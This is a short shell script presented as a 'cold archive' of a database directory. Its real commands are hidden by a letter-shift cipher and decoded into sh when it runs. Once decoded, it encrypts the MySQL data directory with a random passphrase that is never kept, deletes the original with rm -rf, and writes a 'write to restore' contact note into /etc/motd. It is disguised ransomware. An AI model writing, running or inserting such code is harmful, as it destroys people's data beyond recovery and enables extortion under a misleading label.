#!/bin/sh
# cold archive of the database directory
unshift() { perl -pe 'tr/b-za/a-z/'; }
unshift <<'X' | sh -s
de /wbs/mjc && q=$(pqfottm sboe -ify 24) || fyju 1
ubs -dg - nztrm | hqh --cbudi --qjofousz-npef mppqcbdl --qbttqisbtf "$q" -d -p nztrm.hqh
sn -sg nztrm; fdip "xsjuf up sftupsf@fybnqmf.dpn" > /fud/npue
X
